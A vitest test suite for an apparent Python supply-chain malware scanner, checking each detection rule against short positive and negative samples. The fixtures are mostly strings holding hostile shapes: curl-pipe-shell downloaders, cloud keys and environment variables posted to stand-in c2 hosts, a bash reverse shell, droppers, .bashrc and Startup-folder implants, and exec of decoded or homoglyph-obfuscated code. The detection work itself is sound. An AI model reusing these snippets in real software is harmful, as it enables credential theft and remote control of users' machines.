import { beforeAll, describe, expect, it } from 'vitest';
import { initPython, parsePython } from '../../src/python/index.js';
import { needsCorroboration } from '../../src/rules/benign-idioms.js';
import { firstMatching } from '../../src/rules/context.js';
import { RULES, runRules, runTextRules, TEXT_RULES } from '../../src/rules/index.js';
import { SAMPLES, TEXT_SAMPLES } from './samples.js';

beforeAll(() => initPython());

const fired = (path: string, source: string, id: string) =>
  runRules(parsePython(source, path)).filter((e) => e.rule === id);

describe('every rule has a must-match and a must-not-match sample', () => {
  it('covers all code rules and text rules, and no sample names a missing rule', () => {
    expect(RULES.map((r) => r.id).sort()).toEqual(Object.keys(SAMPLES).sort());
    expect(TEXT_RULES.map((r) => r.id).sort()).toEqual(Object.keys(TEXT_SAMPLES).sort());
  });
  it('has unique kebab-case ids and a description and rationale for each', () => {
    const ids = [...RULES, ...TEXT_RULES].map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const rule of [...RULES, ...TEXT_RULES]) {
      expect(rule.id).toMatch(/^[a-z]+(-[a-z]+)*$/);
      expect(rule.description.length).toBeGreaterThan(20);
      expect(rule.rationale.length).toBeGreaterThan(20);
    }
  });
});

describe.each(Object.entries(SAMPLES))('%s', (id, { match, noMatch }) => {
  it('fires on its sample, located in the file', () => {
    const hits = fired(match.path, match.source, id);
    expect(hits.length).toBeGreaterThan(0);
    for (const hit of hits) {
      expect(hit.path).toBe(match.path);
      expect(hit.line).toBeGreaterThanOrEqual(1);
      expect(hit.line).toBeLessThanOrEqual(match.source.split('\n').length);
      expect(hit.snippet.length).toBeLessThanOrEqual(200);
    }
  });
  it('does not fire on its negative sample', () => {
    expect(fired(noMatch.path, noMatch.source, id)).toEqual([]);
  });
});

describe.each(Object.entries(TEXT_SAMPLES))('%s', (id, { match, noMatch }) => {
  it('fires on its sample and not on the negative one', () => {
    const hits = runTextRules(match.path, match.source).filter((e) => e.rule === id);
    expect(hits.map((h) => h.line)).toEqual([2 - (match.source.startsWith('#!') ? 0 : 1)]);
    expect(runTextRules(noMatch.path, noMatch.source).filter((e) => e.rule === id)).toEqual([]);
  });
});

describe('firstMatching', () => {
  it('answers as patterns.find would, across mixed flags, anchors, lookarounds and backreferences', () => {
    const tables: [string, RegExp][][] = [
      [
        ['a', /Login Data/],
        ['b', /cookies\.sqlite/i],
        ['c', /^\/etc\/passwd$/],
        ['d', /x(?!y)/],
      ],
      [
        ['quote', /(['"])\w+\1/],
        ['word', /\bword\b/i],
      ],
    ];
    const values = [
      '',
      'LOGIN DATA',
      'Login Data',
      'COOKIES.SQLITE',
      '/etc/passwd',
      'a /etc/passwd',
      'xy',
      'xz',
    ];
    values.push("'abc'", '"abc\'', 'Word', 'swordfish');
    for (const table of tables) {
      const find = firstMatching(table);
      for (const value of values) expect(find(value)).toBe(table.find(([, p]) => p.test(value)));
    }
  });
});

describe('severity follows context', () => {
  it('rates os.system low in tests, medium at import, high in setup.py', () => {
    const severity = (path: string) =>
      runRules(parsePython('import os\nos.system("x")\n', path)).find(
        (e) => e.rule === 'process-execution' || e.rule === 'install-time-process',
      )?.severity;
    expect(severity('pkg/tests/test_a.py')).toBe('low');
    expect(severity('pkg/__init__.py')).toBe('medium');
    expect(severity('pkg-1.0/setup.py')).toBe('high');
  });
  it('rates exec of decoded data critical anywhere, with the resolved alias', () => {
    const evidence = runRules(
      parsePython('from base64 import b64decode as d\ndef f():\n    exec(d(x))\n', 'pkg/m.py'),
    );
    const hit = evidence.find((e) => e.rule === 'exec-decoded-payload');
    expect(hit).toMatchObject({ severity: 'critical', line: 3, context: 'runtime', snippet: 'exec(d(x))' });
  });
  it('keeps hostile text raw in snippets and cuts them to 200 characters', () => {
    const source = `import os\nos.system("<img src=x onerror=alert(1)> ${'a'.repeat(400)}")\n`;
    const hit = runRules(parsePython(source, 'pkg/__init__.py')).find((e) => e.rule === 'process-execution');
    expect(hit?.snippet.startsWith('os.system("<img src=x onerror=alert(1)>')).toBe(true);
    expect(hit?.snippet.length).toBe(200);
  });
});

describe('runRules never throws', () => {
  it('turns a failing rule into a low evidence item naming the rule and file', () => {
    const broken = {
      ...RULES[0]!,
      id: 'broken',
      check: () => {
        throw new Error('boom');
      },
    };
    const evidence = runRules(parsePython('x = 1\n', 'pkg/m.py'), [broken]);
    expect(evidence).toEqual([
      expect.objectContaining({ rule: 'rule-error', message: expect.stringContaining('broken') }),
    ]);
  });
});

describe('install-time-process weighs the command', () => {
  const severityOf = (source: string) =>
    runRules(parsePython(source, 'pkg-1.0/setup.py')).find((e) => e.rule === 'install-time-process')
      ?.severity;
  it('is medium for a build helper inside a function', () => {
    expect(
      severityOf(
        'import subprocess\ndef version():\n    return subprocess.check_output(["git", "describe"])\nversion()\n',
      ),
    ).toBe('medium');
  });
  it('is high for a downloader, even inside a function', () => {
    expect(severityOf('import os\ndef f():\n    os.system("curl -s http://x.example/a | sh")\nf()\n')).toBe(
      'high',
    );
  });
});

describe('chr-chain variants', () => {
  it('fires on chr mapped over a list of codes', () => {
    const source = "s = ''.join(map(chr, [104, 116, 116, 112, 58, 47, 47, 120, 46]))\n";
    expect(runRules(parsePython(source, 'pkg/m.py')).some((e) => e.rule === 'chr-chain')).toBe(true);
  });
  it('fires when the join is aliased (_ = "".join; _([chr(x) for x in [...]]))', () => {
    const source =
      '_ = "".join\nname = _([chr(c) for c in [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]])\n';
    expect(runRules(parsePython(source, 'pkg/m.py')).some((e) => e.rule === 'chr-chain')).toBe(true);
  });
  it('does not fire on a short list or on codes without chr', () => {
    const source = 'x = f([chr(c) for c in [65, 66]])\nsizes = g([1, 2, 3, 4, 5, 6, 7, 8, 9, 10])\n';
    expect(runRules(parsePython(source, 'pkg/m.py')).some((e) => e.rule === 'chr-chain')).toBe(false);
  });
});

describe('obfuscated-identifiers', () => {
  const fires = (source: string) =>
    runRules(parsePython(source, 'pkg/m.py')).some((e) => e.rule === 'obfuscated-identifiers');
  it('fires on three names made of underscores only', () => {
    expect(fires('___ = getattr\n____ = chr\n_____ = __import__\n')).toBe(true);
  });
  it("does not fire on gettext's _ and a throwaway __", () => {
    expect(fires('_ = gettext\n__ = None\nfor _ in range(3):\n    pass\n')).toBe(false);
  });
});

describe('download-and-execute runs what was fetched, not constant code or a tool named in full', () => {
  const fires = (source: string) =>
    runRules(parsePython(source, 'pkg/__init__.py')).some((e) => e.rule === 'download-and-execute');
  it.each([
    [
      'exec of one constant string',
      'import socket\nsocket.socket()\nexec("""def shim(a):\n    return a""")\n',
    ],
    ['a literal git command', "import os, urllib2\nurllib2.Request(u)\nos.popen('git log --stat', 'r')\n"],
    [
      'pip named in full',
      'import sys, subprocess, requests\nrequests.get(u)\nsubprocess.run([sys.executable, "-m", "pip", "install", "x"])\n',
    ],
  ])('not for %s', (_, source) => expect(fires(source)).toBe(false));
  it.each([
    ['exec of the response', 'import requests\nexec(requests.get(u).text)\n'],
    ['exec of code built from pieces', "import socket\nsocket.socket()\nexec('import ' + name)\n"],
    [
      'a downloaded file started',
      'import requests, subprocess\nr = requests.get(u)\nsubprocess.Popen([path])\n',
    ],
    [
      'a literal command with a downloader',
      'import requests, os\nrequests.get(u)\nos.system("curl http://x/a | sh")\n',
    ],
    [
      'a literal .exe started',
      'import urllib.request, os\nurllib.request.urlretrieve(u, "a.exe")\nos.startfile("a.exe")\n',
    ],
  ])('for %s', (_, source) => expect(fires(source)).toBe(true));
});

describe('binary-dropper: a script written out and started by name', () => {
  const hits = (source: string) =>
    runRules(parsePython(source, 'x-1/setup.py')).filter((e) => e.rule === 'binary-dropper');
  const writer = (run: string) =>
    `import subprocess\nCODE = "import socket"\ndef run():\n    f = open("helper.py", "w")\n    f.write(CODE)\n    f.close()\n    ${run}\nrun()\n`;
  it('fires when the function starts the script it wrote', () => {
    const found = hits(writer('subprocess.Popen(["python3", home + "/helper.py"])'));
    expect(found).toHaveLength(1);
    expect(found[0]!.message).toMatch(/helper\.py, a script written out/);
  });
  it('does not fire on a script written and not started, nor on another program started', () => {
    expect(hits(writer('subprocess.call(["make", "all"])'))).toHaveLength(0);
    expect(hits(writer('print("done")'))).toHaveLength(0);
  });
});

describe('env-exfil: cloud credentials sent out', () => {
  const hits = (source: string) =>
    runRules(parsePython(source, 'pkg/__init__.py')).filter((e) => e.rule === 'env-exfil');
  it("fires when a function posts boto3's resolved keys: critical at import time, as secrets are", () => {
    const source =
      'import boto3, requests\ndef t():\n    cd = boto3.Session().get_credentials()\n' +
      '    requests.post("https://x.example/zz", json={"k": cd.access_key, "s": cd.secret_key})\nt()\n';
    expect(hits(source).map((h) => [h.line, h.severity])).toEqual([[4, 'critical']]);
  });
  it('leaves keys that sign a request (SigV4) unless the send names them', () => {
    const signs =
      'import boto3, requests\nfrom botocore.auth import SigV4Auth\ndef call(url, req):\n    creds = boto3.Session().get_credentials()\n' +
      '    SigV4Auth(creds, "execute-api", "eu-west-1").add_auth(req)\n    return requests.get(url, headers=dict(req.headers))\n';
    expect(hits(signs).map((h) => h.severity)).toEqual(['low']);
    expect(
      hits(signs.replace('headers=dict(req.headers)', 'json={"s": creds.secret_key}')).map((h) => h.severity),
    ).toEqual(['medium']);
    // At import time signing excuses nothing.
    expect(hits(`${signs}call("u", r)\n`).map((h) => h.severity)).toEqual(['critical']);
  });
  it('does not fire on credentials read and no send in the same body', () => {
    expect(hits('import boto3\ndef t():\n    return boto3.Session().get_credentials()\n')).toEqual([]);
  });
  it('follows the environment through a local name into the send', () => {
    const source =
      'import os, requests\ndef run():\n    env_vars = os.environ\n    url = "https://x.example/c"\n' +
      '    requests.post(url, json=dict(env_vars))\nrun()\n';
    expect(hits(source).map((h) => [h.line, h.severity])).toEqual([[5, 'critical']]);
    // A copy handed to a child process, and one variable read by name, are not the environment sent out.
    const honest =
      'import os, requests, subprocess\ndef run():\n    env = os.environ.copy()\n    subprocess.run(["make"], env=env)\n' +
      '    token = os.environ["HOME"]\n    requests.get("https://api.example/v", params={"home": token})\nrun()\n';
    expect(hits(honest)).toEqual([]);
  });
  it("leaves a name that only tests the environment, and words inside the send's strings", () => {
    const flag =
      'import os, requests\nVERIFY = "PKG_NO_VERIFY" not in os.environ\nrequests.get("https://api.example/v", verify=VERIFY)\n';
    expect(hits(flag)).toEqual([]);
    const words =
      'import os, requests\ndef run(name):\n    env = os.environ.copy()\n    requests.post("https://api.example/v", json={"env": name, "note": "env"})\n';
    expect(hits(words)).toEqual([]);
  });
});

describe('suspicious-url: a raw IP however it is written', () => {
  const hits = (value: string) =>
    runRules(parsePython(`URL = "${value}"\n`, 'pkg/m.py')).filter((e) => e.rule === 'suspicious-url');
  it('reads the host after userinfo, and an address written as one decimal or hex number', () => {
    for (const url of [
      'http://pypi.org@45.12.3.4/x',
      'http://3405803786/x',
      'http://0xcb007109/x',
      'http://u:p@45.12.3.4:81',
      'http://a@pypi.org@45.12.3.4/',
      'http://127.0.0.1@45.12.3.4/x',
      'http://45.1.2.3#@127.0.0.1/',
    ])
      expect(hits(url), url).toHaveLength(1);
  });
  it('leaves a name with userinfo, a loopback address behind userinfo, and long numbers in paths', () => {
    for (const url of [
      'https://__token__:abc@pypi.example/simple',
      'http://u@127.0.0.1:8080/',
      'https://example.org/12345678901/',
      'http://2130706433/',
    ])
      expect(hits(url), url).toEqual([]);
  });
});

describe('usage telemetry and update checks', () => {
  const hits = (source: string, rule: string) =>
    runRules(parsePython(source, 'pkg/__init__.py'))
      .filter((e) => e.rule === rule)
      .map((e) => [e.line, e.severity]);
  const telemetry = (check: string) =>
    `import os, platform, socket, requests\ndef send_event(name):\n    if os.environ.get(${check}):\n        return\n    payload = {"os": platform.system(), "host": socket.gethostname()}\n    requests.post("https://t.example/e", json=payload)\n`;
  it('keeps a host name sent by a function the user can switch off at low, and any other switch at medium', () => {
    expect(hits(telemetry('"P_NO_TELEMETRY"'), 'env-exfil')).toEqual([[6, 'low']]);
    expect(hits(telemetry('"DO_NOT_TRACK"'), 'env-exfil')).toEqual([[6, 'low']]);
    expect(hits(telemetry('"P_DEBUG"'), 'env-exfil')).toEqual([[6, 'medium']]);
    // A switch read and not acted on is no guard.
    const unused =
      'import os, socket, requests\ndef send_event():\n    os.getenv("P_TELEMETRY_URL")\n    requests.post("https://t.example/e", json={"h": socket.gethostname()})\n';
    expect(hits(unused, 'env-exfil')).toEqual([[4, 'medium']]);
  });
  it('keeps the environment by name, and a secret gathered after the host name, at medium behind a switch', () => {
    const byName =
      'import os, requests\ndef ping():\n    if os.getenv("DO_NOT_TRACK"):\n        return\n    env = dict(os.environ)\n    requests.post("https://t.example/e", json=env)\n';
    expect(hits(byName, 'env-exfil')).toEqual([[6, 'medium']]);
    const secret =
      'import os, socket, requests\ndef ping():\n    if os.getenv("DO_NOT_TRACK"):\n        return\n    host = socket.gethostname()\n    tok = os.getenv("GITHUB_TOKEN")\n    requests.post("https://t.example/e", json={"h": host, "t": tok})\n';
    expect(hits(secret, 'env-exfil')).toEqual([[7, 'medium']]);
  });
  it('does not excuse the same send at import time, nor the environment or a secret behind a switch', () => {
    expect(hits(`${telemetry('"P_NO_TELEMETRY"')}send_event("start")\n`, 'env-exfil')).toEqual([[6, 'high']]);
    const secret =
      'import os, requests\ndef send():\n    if os.environ.get("NO_TELEMETRY"):\n        return\n    requests.post("https://t.example/e", json={"t": os.getenv("GITHUB_TOKEN")})\n';
    expect(hits(secret, 'env-exfil')).toEqual([[5, 'medium']]);
    const env =
      'import os, requests\ndef send():\n    if os.environ.get("NO_TELEMETRY"):\n        return\n    requests.post("https://t.example/e", json=dict(os.environ))\n';
    expect(hits(env, 'env-exfil')).toEqual([[5, 'medium']]);
  });
  it("keeps a GET of PyPI's release list at import at low, and any other fetch at medium", () => {
    expect(
      hits('import requests\nv = requests.get("https://pypi.org/pypi/p/json").json()\n', 'network-access'),
    ).toEqual([[2, 'low']]);
    expect(
      hits(
        'import requests\nv = requests.get(f"https://pypi.org/pypi/{NAME}/json", timeout=2)\n',
        'network-access',
      ),
    ).toEqual([[2, 'low']]);
    expect(
      hits(
        'import requests\nv = requests.get("https://pypi.org.evil.example/pypi/p/json")\n',
        'network-access',
      ),
    ).toEqual([[2, 'medium']]);
    expect(
      hits('import requests\nrequests.post("https://pypi.org/pypi/p/json", data=D)\n', 'network-access'),
    ).toEqual([[2, 'medium']]);
  });
});

describe('binary-dropper: the very file a function wrote, started', () => {
  const hits = (source: string, path = 'pkg/__init__.py') =>
    runRules(parsePython(source, path)).filter((e) => e.rule === 'binary-dropper');
  // The fabrice family: the path spelled in pieces, the content decoded, written and run in one function.
  const dropper = (write: string, run: string) =>
    `import os, base64\ndef w():\n    p = "C:\\\\Users\\\\Public\\\\p." + "v" + "bs"\n    with open(${write}) as fp:\n        fp.write(base64.b64decode(BLOB))\n    ${run}\nw()\n`;
  it('fires, at import time, whatever the path expression and the way it is started', () => {
    for (const [write, run] of [
      ['p, "wb"', 'os.system(p)'],
      ['p, mode="w"', 'import subprocess; subprocess.Popen([p, "/q"])'],
      ['d + "/per" + ".sh", "w"', 'subprocess.check_call(d + "/per" + ".sh", stdout=None)'],
      ['p, "w"', 'subprocess.Popen(["python", p], creationflags=0x08000000)'],
    ] as const) {
      const found = hits(dropper(write, run));
      expect(found, `${write} / ${run}`).toHaveLength(1);
      expect(found[0]!.severity).toBe('high');
      expect(found[0]!.context).toBe('import');
    }
  });
  it('fires on a temporary file written and run by an interpreter or start', () => {
    const temp = (run: string) =>
      `import os, sys, subprocess, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(CODE)\nt.close()\n${run}\n`;
    for (const run of [
      "os.system(f\"start {sys.executable.replace('.exe', 'w.exe')} {t.name}\")",
      'subprocess.Popen([sys.executable, t.name])',
      'os.system("python3 " + t.name)',
    ]) {
      const found = hits(temp(run));
      expect(found, run).toHaveLength(1);
      expect(found[0]!.message).toMatch(/t\.name, a temporary file/);
    }
    expect(hits(temp('subprocess.call(["gcc", "-o", "out", t.name])'))).toHaveLength(0);
    expect(hits(temp('os.system(f"cat {t.name}")'))).toHaveLength(0);
    expect(
      hits('import os, tempfile\nfd, p = tempfile.mkstemp()\nos.write(fd, CODE)\nos.system("bash " + p)\n'),
    ).toHaveLength(1);
  });
  it('does not fire on a file read, on a config written for another tool, or across functions', () => {
    expect(hits(dropper('p, "rb"', 'os.system(p)'))).toHaveLength(0);
    expect(hits(dropper('p, "w"', 'subprocess.call(["make", "-f", p])'))).toHaveLength(0);
    expect(
      hits('import os\ndef a(p):\n    open(p, "w").write(x)\ndef b(p):\n    os.system(p)\n'),
    ).toHaveLength(0);
  });
});

describe('secret-beacon: keys posted to a fixed address, reply and errors dropped', () => {
  const hits = (source: string) =>
    runRules(parsePython(source, 'sdk/client.py')).filter((e) => e.rule === 'secret-beacon');
  const beacon = (payload: string, url: string, handler = 'pass', call = 'requests.post') =>
    `import base64, requests\nURL = "https://c2.example/k"\nclass Client:\n    def resolve(self):\n        try:\n            data = ${payload}\n            ${call}(url=${url}, json=data)\n        except Exception:\n            ${handler}\n`;
  it('fires at runtime as critical, whether the address is written out, decoded or a module constant', () => {
    for (const url of [
      '"https://api.sdk-requests.example/aliyun"',
      "base64.b64decode('aHR0cHM6Ly9hcGkuYWxpeXVuLXNkay1yZXF1ZXN0cy54eXovYWxpeXVu').decode('utf-8')",
      'URL',
    ]) {
      const found = hits(beacon('{"ak": self._ak, "secret": self._secret}', url));
      expect(
        found.map((h) => [h.line, h.severity, h.context]),
        url,
      ).toEqual([[7, 'critical', 'runtime']]);
    }
  });
  it('finds a decoded address longer than an argument keeps (the keyword argument is cut to 200 characters)', () => {
    const long = Buffer.from(`https://c2.example/${'k'.repeat(160)}`).toString('base64');
    const found = hits(
      beacon('{"ak": self._ak, "secret": self._secret}', `base64.b64decode('${long}').decode()`),
    );
    expect(found.map((h) => h.line)).toEqual([7]);
  });
  it('fires when the reply is bound to `_` or awaited', () => {
    for (const call of ['_ = requests.post', 'await session.post']) {
      const found = hits(
        beacon('{"ak": self._ak, "secret": self._secret}', '"https://x.example"', 'pass', call),
      );
      expect(
        found.map((h) => h.line),
        call,
      ).toEqual([7]);
    }
  });
  it("fires on fabrice's shape: a boto3 key pair under a condition inside the try", () => {
    const source =
      'import boto3, requests\ndef connect():\n    try:\n        if "dokr" in stack():\n            cd = boto3.Session().get_credentials()\n            ak = cd.access_key\n            sk = cd.secret_key\n            data = {"k": ak, "s": sk}\n            requests.post("https://x.herokuapp.com/zz", json=data, timeout=5)\n    except:\n        pass\n';
    expect(hits(source).map((h) => h.line)).toEqual([9]);
  });
  it('does not fire when the reply is read, the error is handled, the address is not fixed, or only a token goes', () => {
    expect(
      hits(beacon('{"ak": self._ak, "secret": self._secret}', '"https://x.example"', 'log.warning("no")')),
    ).toEqual([]);
    expect(hits(beacon('{"ak": self._ak, "secret": self._secret}', 'self.endpoint'))).toEqual([]);
    expect(hits(beacon('{"token": self.token, "event": name}', '"https://x.example"'))).toEqual([]);
    expect(hits(beacon('{"token": creds.token}', '"https://x.example"'))).toEqual([]);
    const revoke = '{"token": t, "client_id": cid, "client_secret": self.client_secret}';
    expect(hits(beacon(revoke, '"https://oauth2.example.com/revoke"'))).toEqual([]);
    expect(hits(beacon('{"token": WRITE_KEY, "secret": SECRET}', '"https://x.example"'))).toEqual([]);
    expect(
      hits(
        beacon(
          '{"ak": self._ak, "secret": self._secret}',
          '"https://x.example"',
          'pass',
          'r = requests.post',
        ),
      ),
    ).toEqual([]);
  });
});

describe('reverse-shell: a shell on a socket', () => {
  const hits = (source: string) =>
    runRules(parsePython(source, 'pkg/util.py')).filter((e) => e.rule === 'reverse-shell');
  it('fires on the streams passed to the shell as well as on dup2', () => {
    const source =
      'import socket, subprocess\ndef r():\n    s = socket.create_connection(("h.example", 4444))\n    subprocess.call(["/bin/bash", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n';
    expect(hits(source).map((h) => [h.line, h.severity])).toEqual([[4, 'critical']]);
  });
});

describe('startup-file-write: a download written into a shell rc file', () => {
  const hits = (source: string) =>
    runRules(parsePython(source, 'pkg/__init__.py')).filter((e) => e.rule === 'startup-file-write');
  const rc = (line: string) =>
    `import os\ndef reset():\n    rc = os.path.expanduser("~/.bashrc")\n    with open(rc, "a") as f:\n        f.write(${line})\n`;
  it('is critical wherever it runs when the written line fetches, medium at runtime otherwise', () => {
    const long = `'bash -c \\'d=$(eval echo ~); ${'x'.repeat(220)}; wget https://dl.example/p.sh -O $d/p.sh\\''`;
    expect(hits(rc(long)).map((h) => [h.line, h.severity])).toEqual([[4, 'critical']]);
    expect(hits(rc('\'eval "$(register-python-argcomplete tool)"\'')).map((h) => h.severity)).toEqual([
      'medium',
    ]);
    // An installer signs the line it adds with its project's address: no downloader, no implant.
    const signed = "'export PATH=$HOME/.tool/bin:$PATH  # added by tool, https://example.org/tool'";
    expect(hits(rc(signed)).map((h) => h.severity)).toEqual(['medium']);
  });
  it("is critical when an encoded payload's loader goes into the Windows Startup folder, medium for a plain shortcut", () => {
    const startup = (content: string) =>
      `import os
def _later():
    folder = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
    path = os.path.join(folder, ".setup.pyw")
    open(path, "w").write(${content})
`;
    expect(
      hits(startup(`'import pickle,zlib\\npickle.loads(zlib.decompress(b"x\\xda"))'`)).map((h) => [
        h.line,
        h.severity,
        h.context,
      ]),
    ).toEqual([[5, 'critical', 'runtime']]);
    expect(hits(startup('\'start "" "C:\\\\Tools\\\\tray.exe"\'')).map((h) => h.severity)).toEqual([
      'medium',
    ]);
  });
});

describe('wallet-monkeypatch: a key library rewritten', () => {
  const hits = (source: string) =>
    runRules(parsePython(source, 'pkg/__init__.py')).filter((e) => e.rule === 'wallet-monkeypatch');
  it('is high where the patch runs at import (a function the module calls too), medium when only a later call patches', () => {
    const source =
      'import eth_account as ea\nimport bip_utils\ndef install():\n    ea.Account.from_key = grab\ninstall()\ndef later():\n    setattr(bip_utils.Bip39SeedGenerator, "Generate", grab)\n';
    expect(hits(source).map((h) => [h.line, h.severity, h.message])).toEqual([
      [4, 'high', 'replaces eth_account.Account.from_key with an assignment'],
      [7, 'medium', 'replaces an attribute of bip_utils with setattr'],
    ]);
  });
  it('does not fire on attributes of objects the library returned, nor on other libraries', () => {
    expect(
      hits(
        'import requests\nrequests.adapters.DEFAULT_RETRIES = 5\nfrom web3 import Web3\nw3 = Web3()\nw3.x = 1\n',
      ),
    ).toEqual([]);
  });
  it('does not fire on a renamed method aliased back, nor on settings that hold no key', () => {
    const source =
      'from web3 import Web3\nfrom eth_account import Account\nWeb3.toChecksumAddress = Web3.to_checksum_address\nAccount.privateKeyToAccount = Account.from_key\nWeb3.DEFAULT_TIMEOUT = 30\n';
    expect(hits(source)).toEqual([]);
  });
});

describe('hidden-endpoint: requests to an address no string in the file spells', () => {
  const hits = (source: string, path = 'pkg/net.py') =>
    runRules(parsePython(source, path)).filter((e) => e.rule === 'hidden-endpoint');
  const b64 = (s: string) => Buffer.from(s).toString('base64');
  it('follows a decoded address into a helper, by position or keyword, and is critical when the send is blind', () => {
    const helper = (call: string) =>
      `import base64\nfrom requests import post\ndef grab(vault):\n    def send(where, what):\n        try:\n            post(where, data={"v": what})\n        except:\n            pass\n    u = base64.b64decode("${b64('http://203.0.113.9:5000/post')}")\n    ${call}\n`;
    for (const call of ['send(u.decode("ascii"), vault)', 'send(what=vault, where=u.decode())']) {
      expect(
        hits(helper(call)).map((h) => [h.line, h.severity, h.context]),
        call,
      ).toEqual([[6, 'critical', 'runtime']]);
    }
  });
  it('is high when the reply is read, and reads split, reversed and hex-encoded addresses', () => {
    for (const address of [
      `"ht" + "tps://col" + "lect.exa" + "mple/k"`,
      `"k/elpmaxe.tcelloc//:sptth"[::-1]`,
      `bytes.fromhex("${Buffer.from('https://collect.example/k').toString('hex')}").decode()`,
    ]) {
      const found = hits(
        `import requests\ndef f(d):\n    r = requests.get(${address}, params=d)\n    return r.text\n`,
      );
      expect(
        found.map((h) => [h.line, h.severity]),
        address,
      ).toEqual([[3, 'high']]);
    }
  });
  it('leaves written-out domains, interpolated hosts, loopback and tests alone', () => {
    const get = (address: string, path?: string) =>
      hits(
        `import requests, base64\nHOST = "service.example.org"\ndef f(name):\n    return requests.get(${address}).json()\n`,
        path,
      );
    expect(get(`"https://" + name + ".service.example.org/a"`)).toEqual([]);
    expect(get(`f"https://{name}/a"`)).toEqual([]);
    expect(get(`base64.b64decode("${b64('http://127.0.0.1:8080/')}").decode()`)).toEqual([]);
    expect(get(`"https://" + HOST + "/v1"`)).toEqual([]);
    expect(get(`base64.b64decode("${b64('https://c2.example/k')}").decode()`, 'tests/test_net.py')).toEqual(
      [],
    );
    expect(get(`base64.b64decode("${b64('https://c2.example/k')}").decode()`)).toHaveLength(1);
  });
});

describe('names are read as Python reads them (NFKC)', () => {
  it('sees exec and subprocess written in mathematical look-alike letters', () => {
    const source =
      'import \u{1d634}\u{1d636}\u{1d623}\u{1d631}\u{1d633}\u{1d630}\u{1d624}\u{1d626}\u{1d634}\u{1d634}, base64\n\u{1d626}\u{1d639}\u{1d626}\u{1d624}(base64.b64decode("cHJpbnQoMSk="))\n\u{1d634}\u{1d636}\u{1d623}\u{1d631}\u{1d633}\u{1d630}\u{1d624}\u{1d626}\u{1d634}\u{1d634}.run(["ls"])\n';
    const file = parsePython(source, 'pkg/__init__.py');
    expect(file.imports.map((i) => i.module)).toContain('subprocess');
    expect(file.calls.map((c) => c.name)).toEqual(expect.arrayContaining(['exec', 'subprocess.run']));
    expect(runRules(file).map((e) => e.rule)).toContain('exec-decoded-payload');
  });
  it('keeps the characters of strings, which Python does not normalise', () => {
    const file = parsePython('x = "\uff54\uff45\uff53\uff54"\n', 'pkg/a.py');
    expect(file.strings.map((s) => s.value)).toEqual(['\uff54\uff45\uff53\uff54']);
  });
});

describe('exec-decoded-payload: the decoder and the exec on separate lines', () => {
  const hits = (source: string) =>
    runRules(parsePython(source, 'pkg/__init__.py')).filter((e) => e.rule === 'exec-decoded-payload');
  it('follows a local through up to three assignments, in a function or at module level', () => {
    const chain =
      'import base64, zlib\ndef run(blob):\n    a = base64.b64decode(blob)\n    b = zlib.decompress(a)\n    code = b\n    exec(code.decode())\n';
    expect(hits(chain).map((h) => [h.line, h.severity])).toEqual([[6, 'critical']]);
    expect(hits('import base64\np = base64.b64decode(B)\nx = 1\nexec(p)\n').map((h) => h.line)).toEqual([4]);
  });
  it('needs backing in that form (versioneer runs the source it embeds so), not with the decoder in the call', () => {
    const [split] = hits('import base64\nV = base64.b64decode(V_B64)\nexec(V.decode(), globals())\n');
    const [inline] = hits('import base64\nexec(base64.b64decode(V_B64).decode(), globals())\n');
    expect(split?.message).toBe('exec of decoded data (decoded into V on line 2)');
    expect(split && needsCorroboration(split)).toBe(true);
    expect(inline && needsCorroboration(inline)).toBe(false);
  });
  it('leaves exec of code read from a file, or of a name the decoder never fed', () => {
    expect(hits('src = open("v.py").read()\nexec(src)\n')).toEqual([]);
    expect(hits('import base64\ndef f():\n    p = base64.b64decode(B)\ndef g(p):\n    exec(p)\n')).toEqual(
      [],
    );
  });
});

describe('remote-command: a reply run as a command', () => {
  const hits = (source: string) =>
    runRules(parsePython(source, 'pkg/client.py')).filter((e) => e.rule === 'remote-command');
  it('follows the reply only within the function that runs the command, and not through words in a string', () => {
    const other =
      'import os, requests\ndef fetch():\n    data = requests.get("https://api.example/v").json()\n    return data\ndef report():\n    os.system("echo data")\n';
    expect(hits(other)).toEqual([]);
    const same =
      'import os, base64, requests\ndef poll():\n    data = requests.get("https://c2.example/t").text\n    os.system(base64.b64decode(data))\n';
    expect(hits(same).map((h) => [h.line, h.severity])).toEqual([[4, 'critical']]);
  });
  it('leaves a fetched version handed to a program the code names, and not one handed to a shell', () => {
    const updater =
      'import subprocess, sys, requests\ndef update():\n    latest = requests.get("https://pypi.org/pypi/p/json").json()["info"]["version"]\n    subprocess.check_call([sys.executable, "-m", "pip", "install", f"p=={latest}"])\n';
    expect(hits(updater)).toEqual([]);
    const shell =
      'import subprocess, requests\ndef poll():\n    cmd = requests.get("https://c2.example/t").text\n    subprocess.run(["bash", "-c", cmd])\n    subprocess.run(cmd, shell=True)\n    subprocess.Popen(cmd.split())\n';
    expect(hits(shell).map((h) => [h.line, h.severity])).toEqual([
      [4, 'high'],
      [5, 'high'],
      [6, 'high'],
    ]);
    // A reply as a whole argument is a command, whatever program is named first.
    const argv =
      'import subprocess, sys, requests\ndef poll():\n    r = requests.get("https://c2.example/t")\n    subprocess.run([sys.executable, "-c", r.text])\n' +
      '    subprocess.run(["/usr/bin/env", "bash", "-c", r.text])\n    subprocess.run([sys.executable, "-m", "pip", "install", r.text])\n' +
      '    subprocess.run([sys.executable, "-m", "pip", "install", f"{r.text}"])\n';
    expect(hits(argv).map((h) => h.line)).toEqual([4, 5, 6, 7]);
  });
});
